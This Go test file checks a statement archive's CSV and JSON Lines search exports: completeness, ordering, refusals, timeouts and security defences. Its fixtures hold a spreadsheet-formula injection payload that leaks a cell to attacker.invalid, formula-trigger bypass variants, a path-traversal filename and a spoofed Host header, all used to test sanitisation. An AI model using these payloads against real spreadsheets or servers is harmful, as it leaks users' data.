package server

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"statementarchive/internal/index/indextest"
	"statementarchive/internal/search"
)

const formulaID = "2022-05-05-formulas"

// outputCorpus is the server's test corpus and a statement whose title,
// issuer and paragraphs look like spreadsheet formulas.
func outputCorpus(t testing.TB) map[string]string {
	files := corpus(t)
	files[formulaID+".txt"] = `---
title: {en: '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")', fr: Déclaration piégée}
date: 2022-05-05
issuer: '@Council of cyber formulas'
tags: [cyber]
gaps: {fr: [2, 3, 4, 5]}
---
[en]
1. =1+2 is a cyber formula.
2. +SUM(A1:A9) is a cyber sum.
3. -2+3 is a cyber difference.
4. @SUM(1) is a cyber function.
5. 'Quoted' cyber text.
6. Plain cyber text.
[fr]
1. =1+2 est une formule cyber.
6. Texte cyber ordinaire.
`
	return files
}

func outputServer(t *testing.T) http.Handler {
	t.Helper()
	return handlerFor(t, outputCorpus(t))
}

// apiRows returns the rows of every page of an API search, as
// statement/ref → texts.
func apiRows(t *testing.T, h http.Handler, query string) map[string]map[string]string {
	t.Helper()
	out := map[string]map[string]string{}
	for page := 1; ; page++ {
		rec := get(t, h, "/api/search?per_page=100&page="+strconv.Itoa(page)+"&"+query)
		if rec.Code != http.StatusOK {
			t.Fatalf("GET /api/search?%s = %d: %s", query, rec.Code, rec.Body.String())
		}
		var res struct {
			Rows []struct {
				Statement string            `json:"statement"`
				Ref       string            `json:"ref"`
				Text      map[string]string `json:"text"`
			} `json:"rows"`
		}
		if err := json.Unmarshal(rec.Body.Bytes(), &res); err != nil {
			t.Fatal(err)
		}
		if len(res.Rows) == 0 {
			return out
		}
		for _, r := range res.Rows {
			out[r.Statement+"/"+r.Ref] = r.Text
		}
	}
}

// readCSV parses an export with encoding/csv, after checking and
// dropping its byte order mark.
func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	rest, ok := bytes.CutPrefix(body, []byte(utf8BOM))
	if !ok {
		t.Fatalf("the CSV does not start with a UTF-8 byte order mark: %.40q", body)
	}
	records, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v", err)
	}
	if len(records) == 0 {
		t.Fatal("the CSV has no header row")
	}
	return records
}

// exportedRecord is a JSON Lines record as a client decodes it.
type exportedRecord struct {
	Statement string            `json:"statement"`
	Title     string            `json:"title"`
	Date      *string           `json:"date"`
	Issuer    string            `json:"issuer"`
	Reference string            `json:"reference"`
	Kind      string            `json:"kind"`
	Ref       string            `json:"ref"`
	Paragraph int               `json:"paragraph"`
	Text      map[string]string `json:"text"`
	Permalink string            `json:"permalink"`
}

// readJSONL decodes an export line by line, each line one JSON value.
func readJSONL(t *testing.T, body []byte) []exportedRecord {
	t.Helper()
	var out []exportedRecord
	for i, line := range strings.SplitAfter(string(body), "\n") {
		if line == "" {
			continue
		}
		if !strings.HasSuffix(line, "\n") {
			t.Fatalf("line %d does not end with a newline: %q", i+1, line)
		}
		dec := json.NewDecoder(strings.NewReader(line))
		dec.DisallowUnknownFields()
		var rec exportedRecord
		if err := dec.Decode(&rec); err != nil {
			t.Fatalf("line %d does not decode: %v\n%s", i+1, err, line)
		}
		if dec.More() {
			t.Fatalf("line %d holds more than one value: %s", i+1, line)
		}
		out = append(out, rec)
	}
	return out
}

// unneutralise undoes safeCell: one leading apostrophe goes.
func unneutralise(c string) string { return strings.TrimPrefix(c, "'") }

// The CSV and JSON Lines exports of a search hold every row of every
// page, once, with the filters kept, each row with its statement's
// details, its text in every language and its absolute permalink; they
// say the same as each other and as the API.
func TestExportsHoldEveryRow(t *testing.T) {
	h := outputServer(t)
	for _, query := range []string{"q=cyber", "q=cyber&lang=fr", "q=cyber&issuer=North+Atlantic+Council", "q=cyber&from=2022-01-01&to=2022-12-31&sort=relevance&page=2&per_page=1"} {
		t.Run(query, func(t *testing.T) {
			api := apiRows(t, h, strings.Replace(query, "&page=2&per_page=1", "", 1))
			if len(api) < 2 {
				t.Fatalf("the search finds %d rows; the test needs several", len(api))
			}
			rec := get(t, h, "/search.csv?"+query)
			if rec.Code != http.StatusOK {
				t.Fatalf("GET /search.csv?%s = %d: %.300s", query, rec.Code, rec.Body.String())
			}
			if ct := rec.Header().Get("Content-Type"); !strings.HasPrefix(ct, "text/csv; charset=utf-8") {
				t.Errorf("Content-Type = %q", ct)
			}
			if cd := rec.Header().Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment; filename=search-cyber") || !strings.HasSuffix(cd, ".csv") {
				t.Errorf("Content-Disposition = %q, want an attachment named search-cyber….csv", cd)
			}
			records := readCSV(t, rec.Body.Bytes())
			wantHeader := []string{"statement", "title", "date", "issuer", "reference", "kind", "ref", "text_en", "text_fr", "permalink"}
			if !slices.Equal(records[0], wantHeader) {
				t.Fatalf("header = %q, want %q", records[0], wantHeader)
			}
			lines := readJSONL(t, get(t, h, "/search.jsonl?"+query).Body.Bytes())
			if len(records)-1 != len(api) || len(lines) != len(api) {
				t.Fatalf("CSV rows = %d, JSON lines = %d, want the %d rows of the search's pages", len(records)-1, len(lines), len(api))
			}
			seen := map[string]bool{}
			for i, r := range records[1:] {
				l := lines[i]
				key := r[0] + "/" + r[6]
				if seen[key] {
					t.Errorf("row %s exported twice", key)
				}
				seen[key] = true
				texts, ok := api[key]
				if !ok {
					t.Errorf("row %s is exported but the search does not find it", key)
					continue
				}
				if l.Statement+"/"+l.Ref != key {
					t.Errorf("CSV row %d is %s, JSON line %d is %s/%s: the exports disagree", i+1, key, i+1, l.Statement, l.Ref)
				}
				for j, lang := range []string{"en", "fr"} {
					if got := unneutralise(r[7+j]); got != texts[lang] || l.Text[lang] != texts[lang] {
						t.Errorf("%s in %s: CSV %.60q, JSON %.60q, API %.60q", key, lang, got, l.Text[lang], texts[lang])
					}
				}
				want := testBaseURL + "/statements/" + key
				if r[9] != want || l.Permalink != want {
					t.Errorf("%s permalink: CSV %q, JSON %q, want %q", key, r[9], l.Permalink, want)
				}
				if u, _ := url.Parse(l.Permalink); u != nil {
					if code := get(t, h, u.RequestURI()).Code; code != http.StatusOK {
						t.Errorf("permalink %s = %d", l.Permalink, code)
					}
				}
				if date := ""; l.Date != nil && *l.Date != r[2] || l.Date == nil && r[2] != date {
					t.Errorf("%s date: CSV %q, JSON %v", key, r[2], l.Date)
				}
				if l.Kind != r[5] || unneutralise(r[3]) != l.Issuer || unneutralise(r[1]) != l.Title {
					t.Errorf("%s details: CSV %q, JSON %+v", key, r[:7], l)
				}
			}
		})
	}
}

// Rows are exported newest first, the order of sort=date, whatever
// order the search page shows.
func TestExportOrder(t *testing.T) {
	h := outputServer(t)
	records := readCSV(t, get(t, h, "/search.csv?q=cyber&sort=relevance").Body.Bytes())[1:]
	var dates []string
	for _, r := range records {
		dates = append(dates, r[2])
	}
	if !slices.IsSortedFunc(dates, func(a, b string) int { return strings.Compare(b, a) }) {
		t.Errorf("export dates = %q, want newest first", dates)
	}
}

// A CSV export opens safely in a spreadsheet: no cell starts with a
// character that makes it a formula, and the apostrophe that keeps it
// text can be taken off to give the text as published.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	h := outputServer(t)
	records := readCSV(t, get(t, h, "/search.csv?q=cyber&tag=cyber").Body.Bytes())
	lines := readJSONL(t, get(t, h, "/search.jsonl?q=cyber&tag=cyber").Body.Bytes())
	if len(records)-1 != 6 || len(lines) != 6 {
		t.Fatalf("rows = %d CSV, %d JSON; want the formula statement's 6", len(records)-1, len(lines))
	}
	neutralised := 0
	for i, r := range records[1:] {
		for j, cell := range r {
			if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("row %d cell %d (%s) starts a formula: %q", i+1, j, records[0][j], cell)
			}
		}
		l := lines[i]
		for j, want := range map[int]string{1: l.Title, 3: l.Issuer, 7: l.Text["en"], 8: l.Text["fr"]} {
			if got := unneutralise(r[j]); got != want {
				t.Errorf("row %d %s = %q, without its apostrophe %q, want %q", i+1, records[0][j], r[j], got, want)
			}
			if r[j] != want {
				neutralised++
			}
		}
	}
	// Title and issuer on each of 6 rows, and 5 English texts and the
	// one French text that open with =, +, -, @ or '.
	if neutralised != 6*2+5+1 {
		t.Errorf("%d cells neutralised, want %d", neutralised, 6*2+5+1)
	}
}

func TestSafeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+2", "'=1+2"},
		{"+SUM(A1)", "'+SUM(A1)"},
		{"-2+3", "'-2+3"},
		{"@SUM(1)", "'@SUM(1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"  =1", "'  =1"},
		{"'quoted'", "''quoted'"},
		{"plain", "plain"},
		{"a=b", "a=b"},
		{"", ""},
		{"   ", "   "},
		{"2021-07-19", "2021-07-19"},
		{"http://archive.test/statements/x/1", "http://archive.test/statements/x/1"},
		// Fullwidth signs, which some spreadsheets read as ASCII ones,
		// and invisible characters before a sign, which they skip.
		{"＝1+2", "'＝1+2"},
		{"＋SUM(A1)", "'＋SUM(A1)"},
		{"－2+3", "'－2+3"},
		{"＠SUM(1)", "'＠SUM(1)"},
		{"\u200b=1+2", "'\u200b=1+2"},
		{"\ufeff=1+2", "'\ufeff=1+2"},
		{"\u00a0\u2060=1", "'\u00a0\u2060=1"},
		{"\u3000+1", "'\u3000+1"},
		{"\u200bplain", "\u200bplain"},
	}
	for _, tt := range tests {
		got := safeCell(tt.in)
		if got != tt.want {
			t.Errorf("safeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if back := unneutralise(got); back != tt.in {
			t.Errorf("safeCell(%q) = %q does not undo to it (%q)", tt.in, got, back)
		}
	}
}

func TestExportName(t *testing.T) {
	tests := []struct{ query, want string }{
		{"ransomware", "search-ransomware.csv"},
		{`"Cyber Defence" -china`, "search-cyber-defence-china.csv"},
		{"sécurité", "search-s-curit.csv"},
		{"ПРЕСС", "search.csv"},
		{strings.Repeat("a", 100), "search-" + strings.Repeat("a", 40) + ".csv"},
		{`../../etc/passwd"; x=`, "search-etc-passwd-x.csv"},
	}
	for _, tt := range tests {
		if got := exportName(tt.query, "csv"); got != tt.want {
			t.Errorf("exportName(%q) = %q, want %q", tt.query, got, tt.want)
		}
	}
}

// What a search refuses, an export refuses before writing anything, with
// the search page's status and message.
func TestExportRefusals(t *testing.T) {
	h := outputServer(t)
	for _, tt := range []struct {
		query, want string
	}{
		{"", "q is empty"},
		{"q=+", "q is empty"},
		{"q=%22open", "quote"},
		{"q=cyber&lang=de", "language"},
		{"q=-cyber", "only -excluded"},
		{"q=cyber&per_page=1000", "per_page"},
		{"q=cyber&from=yesterday", "YYYY-MM-DD"},
		{"q=c*", "*"},
	} {
		for _, ext := range []string{"csv", "jsonl"} {
			path := "/search." + ext + "?" + tt.query
			rec := get(t, h, path)
			if rec.Code != http.StatusBadRequest {
				t.Errorf("GET %s = %d, want 400", path, rec.Code)
				continue
			}
			if rec.Header().Get("Content-Disposition") != "" {
				t.Errorf("GET %s: a refusal is sent as an attachment", path)
			}
			if msg := text(parse(t, rec).Find(`main [role=alert]`)); !strings.Contains(strings.ToLower(msg), strings.ToLower(tt.want)) {
				t.Errorf("GET %s says %q, want it to mention %q", path, msg, tt.want)
			}
		}
	}
}

// An export passes through the search gate: with no room it is refused
// with a 503 and Retry-After, before anything is written.
func TestExportBusy(t *testing.T) {
	gate := search.NewGate(1, 1, 1, time.Millisecond)
	idx := indextest.Build(t, outputCorpus(t))
	h := New(Config{Archive: NewArchive(idx, gate), BaseURL: testBaseURL, Logger: slog.New(slog.NewTextHandler(io.Discard, nil))}).Handler()
	for _, w := range []search.Weight{search.Cheap, search.Medium, search.Heavy} {
		release, err := gate.Enter(context.Background(), w)
		if err != nil {
			t.Fatal(err)
		}
		defer release()
	}
	rec := get(t, h, "/search.csv?q=cyber")
	if rec.Code != http.StatusServiceUnavailable || rec.Header().Get("Retry-After") == "" || rec.Header().Get("Content-Disposition") != "" {
		t.Errorf("export with the gate full = %d (Retry-After %q, Content-Disposition %q), want 503 with Retry-After and no attachment",
			rec.Code, rec.Header().Get("Retry-After"), rec.Header().Get("Content-Disposition"))
	}
}

// Exports are bounded by their own time limit, not the other requests':
// with a request timeout too short for any search, a page fails and an
// export is whole.
func TestExportOutlivesTheRequestTimeout(t *testing.T) {
	idx := indextest.Build(t, outputCorpus(t))
	h := New(Config{Archive: NewArchive(idx, nil), BaseURL: testBaseURL, RequestTimeout: time.Nanosecond, Logger: slog.New(slog.NewTextHandler(io.Discard, nil))}).Handler()
	if rec := get(t, h, "/search?q=cyber"); rec.Code == http.StatusOK {
		t.Fatalf("the search page answered within a nanosecond's timeout; the test proves nothing")
	}
	rec := get(t, h, "/search.jsonl?q=cyber")
	if rec.Code != http.StatusOK {
		t.Fatalf("export under a nanosecond's request timeout = %d, want 200", rec.Code)
	}
	want := apiRows(t, handlerFor(t, outputCorpus(t)), "q=cyber")
	if got := readJSONL(t, rec.Body.Bytes()); len(got) != len(want) {
		t.Errorf("export under a nanosecond's request timeout has %d rows, want %d", len(got), len(want))
	}
}

// HEAD of an export checks the search and answers with the headers
// alone; an export of a search that finds nothing is its header.
func TestExportHeadAndEmpty(t *testing.T) {
	h := outputServer(t)
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest(http.MethodHead, "/search.csv?q=cyber", nil))
	if rec.Code != http.StatusOK || rec.Body.Len() != 0 || !strings.HasPrefix(rec.Header().Get("Content-Disposition"), "attachment") {
		t.Errorf("HEAD /search.csv = %d, %d bytes, Content-Disposition %q; want 200, no body, an attachment", rec.Code, rec.Body.Len(), rec.Header().Get("Content-Disposition"))
	}
	rec = httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest(http.MethodHead, "/search.csv?q=%22open", nil))
	if rec.Code != http.StatusBadRequest {
		t.Errorf("HEAD of a bad export = %d, want 400", rec.Code)
	}
	if records := readCSV(t, get(t, h, "/search.csv?q=zanzibar").Body.Bytes()); len(records) != 1 {
		t.Errorf("export of no row = %d records, want the header alone", len(records))
	}
	if body := get(t, h, "/search.jsonl?q=zanzibar").Body.String(); body != "" {
		t.Errorf("JSON Lines export of no row = %q, want nothing", body)
	}
}

// failingArchive hands out Readers whose exports fail after two rows.
type failingArchive struct{ Archive }

func (a failingArchive) Acquire() (Reader, func()) {
	rd, release := a.Archive.Acquire()
	return failingReader{Reader: rd}, release
}

type failingReader struct {
	Reader
}

func (f failingReader) Export(ctx context.Context, req search.Request, fn func(search.Row) error) error {
	n := 0
	err := f.Reader.Export(ctx, req, func(row search.Row) error {
		if n++; n > 2 {
			return errors.New("disk on fire")
		}
		return fn(row)
	})
	return err
}

func (f failingReader) Latest(ctx context.Context, req search.Request, n int) ([]search.Row, error) {
	return f.Reader.Latest(ctx, req, n)
}

// An export that fails once rows are written cannot change its status:
// the client sees the download break, never a file that looks whole, and
// the fault is logged.
func TestExportFailingMidwayBreaks(t *testing.T) {
	var logged bytes.Buffer
	idx := indextest.Build(t, outputCorpus(t))
	h := New(Config{Archive: failingArchive{NewArchive(idx, nil)}, BaseURL: testBaseURL, Logger: slog.New(slog.NewTextHandler(&logged, nil))}).Handler()
	srv := httptest.NewServer(h)
	defer srv.Close()
	for _, ext := range []string{"csv", "jsonl"} {
		// Whether the status line left before the failure or not, the
		// client must see an error: in the response, or in its body.
		resp, err := http.Get(srv.URL + "/search." + ext + "?q=cyber")
		if err != nil {
			continue
		}
		body, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err == nil {
			t.Errorf("%s export failing at row 3 = %d with a whole body of %d bytes; want the download to break", ext, resp.StatusCode, len(body))
		}
	}
	srv.Close() // waits for the handlers, and their log lines
	if !strings.Contains(logged.String(), "disk on fire") {
		t.Errorf("the fault was not logged:\n%s", logged.String())
	}
}

// No header a client sends reaches an export's permalinks.
func TestExportHostNeverEchoed(t *testing.T) {
	h := outputServer(t)
	for _, path := range []string{"/search.csv?q=cyber", "/search.jsonl?q=cyber"} {
		req := httptest.NewRequest(http.MethodGet, path, nil)
		req.Host = "evil.example"
		req.Header.Set("X-Forwarded-Host", "evil.example")
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, req)
		if rec.Code != http.StatusOK {
			t.Fatalf("GET %s = %d", path, rec.Code)
		}
		if where := mentions(rec.Header(), rec.Body.String(), "evil.example"); where != "" {
			t.Errorf("GET %s with Host: evil.example carries it in %s", path, where)
		}
	}
}
